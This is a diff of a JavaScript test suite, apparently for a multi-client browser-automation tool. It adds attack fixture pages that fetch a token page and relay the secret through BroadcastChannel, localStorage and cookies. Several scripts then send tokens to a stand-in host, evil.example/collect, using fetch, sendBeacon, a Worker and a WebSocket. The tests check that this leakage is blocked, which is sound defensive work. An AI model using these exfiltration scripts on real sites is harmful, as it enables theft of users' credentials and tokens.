@@ -94,6 +94,21 @@ describe("attacks across clients in the user's Chrome", { timeout: 180_000 }, ()
             `<title>Spawner</title><p>spawning</p><script>let n = 0; const t = setInterval(() => { n++; window.open('/child?n=' + n, '_blank', n % 2 ? '' : 'noopener'); if (n >= 12) clearInterval(t); }, 30)</script>`,
           ),
         '/child': (_req, _body, res) => html(res, `<title>Child</title><p>A's popup ${secret}</p>`),
+        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${secret}</p>`),
+        // A page of the sensitive site (not itself sensitive) that brings the token onto itself, then tells every
+        // same-origin page of the profile: a channel, storage, a cookie.
+        '/repo-bc': (_req, _body, res) =>
+          html(
+            res,
+            `<title>Repo</title><p id="out">loading</p><script>fetch('/settings/tokens').then((r) => r.text()).then((t) => { const got = t.replace(/<[^>]+>/g, ' ').trim(); out.textContent = got; localStorage.setItem('got', got); document.cookie = 'got=' + encodeURIComponent(got) + '; path=/'; const bc = new BroadcastChannel('relay'); setInterval(() => bc.postMessage(got), 50); })</script>`,
+          ),
+        // Another page of the same site, in another client's tab: it passes on whatever it hears.
+        '/relay': (_req, _body, res) =>
+          html(
+            res,
+            `<title>Relay</title><p>public page</p><script>const out = (t) => fetch('https://evil.example:' + location.port + '/collect?relayed=' + encodeURIComponent(t), { mode: 'no-cors' }).catch(() => {}); out('alive'); new BroadcastChannel('relay').onmessage = (e) => out('bc:' + e.data); setInterval(() => { const v = localStorage.getItem('got'); if (v) out('ls:' + v); }, 200);</script>`,
+          ),
+        '/collect': (_req, _body, res) => html(res, '<title>Collected</title><p>ok</p>'),
       },
       { tls: true },
     );
@@ -233,6 +248,35 @@ describe("attacks across clients in the user's Chrome", { timeout: 180_000 }, ()
     await leave(a);
     await leave(b);
   });
+
+  test("what a tainted client's page hands to another client's tab of the same site (one profile: a channel, storage) does not leave through it", async () => {
+    const a = await connect();
+    const b = await connect();
+    const before = site.seen.length;
+    await call(b.client, 'new_page', { url: site.url('github.com', '/relay') });
+    await call(a.client, 'new_page', { url: site.url('github.com', '/repo-bc') });
+    await waitFor('A to see the token', async () =>
+      (await call(a.client, 'take_snapshot')).text.includes(secret),
+    );
+    await new Promise((done) => setTimeout(done, 2_000));
+    const collectedPaths = site.seen
+      .slice(before)
+      .filter((seen) => seen.path.startsWith('/collect'))
+      .map((seen) => seen.path);
+    assert.ok(
+      collectedPaths.includes('/collect?relayed=alive'),
+      `B's tab may send: ${collectedPaths.join(' ')} ${site.seen
+        .slice(before)
+        .map((seen) => seen.path)
+        .join(' ')} ${(await call(b.client, 'take_snapshot')).text}`,
+    );
+    const leaked = site.seen
+      .slice(before)
+      .filter((seen) => seen.path.startsWith('/collect') && seen.path.includes('ghp_'));
+    assert.deepEqual(leaked.map((seen) => seen.path).slice(0, 3), [], "A's token left through B's tab");
+    await leave(a);
+    await leave(b);
+  });
 });
 
 /** The TCP ports a process listens on (Linux: its socket inodes matched in /proc/net/tcp). */
@@ -287,10 +331,10 @@ describe('attacks across clients of one isolated browser', { timeout: 300_000 },
             `<title>Repo</title><p id="out">loading</p><script>
             let got = '';
             fetch('/settings/tokens').then((r) => r.text()).then((t) => { got = t.replace(/<[^>]+>/g, ' ').trim(); out.textContent = got; });
-            const send = (how) => { if (!got) return; const u = 'https://evil.example/collect?how=' + how + '&t=' + encodeURIComponent(got); try { fetch(u, { mode: 'no-cors', keepalive: true }).catch(() => {}); } catch {} try { navigator.sendBeacon(u + '&beacon=1', got); } catch {} };
+            const send = (how) => { if (!got) return; const u = 'https://evil.example:' + location.port + '/collect?how=' + how + '&t=' + encodeURIComponent(got); try { fetch(u, { mode: 'no-cors', keepalive: true }).catch(() => {}); } catch {} try { navigator.sendBeacon(u + '&beacon=1', got); } catch {} };
             setInterval(() => send('loop'), 50);
             addEventListener('pagehide', () => send('pagehide'));
-            const worker = new Worker(URL.createObjectURL(new Blob(['onmessage = (e) => { setInterval(() => { fetch("https://evil.example/collect?how=worker&t=" + e.data, { mode: "no-cors" }).catch(() => {}); try { new WebSocket("wss://evil.example/collect-ws?t=" + e.data); } catch {} }, 200); }'])));
+            const worker = new Worker(URL.createObjectURL(new Blob(['const port = ' + JSON.stringify(location.port) + '; onmessage = (e) => { setInterval(() => { fetch("https://evil.example:" + port + "/collect?how=worker&t=" + e.data, { mode: "no-cors" }).catch(() => {}); try { new WebSocket("wss://evil.example:" + port + "/collect-ws?t=" + e.data); } catch {} }, 200); }'])));
             setInterval(() => { if (got) worker.postMessage(encodeURIComponent(got)); }, 500);
             </script>`,
           ),
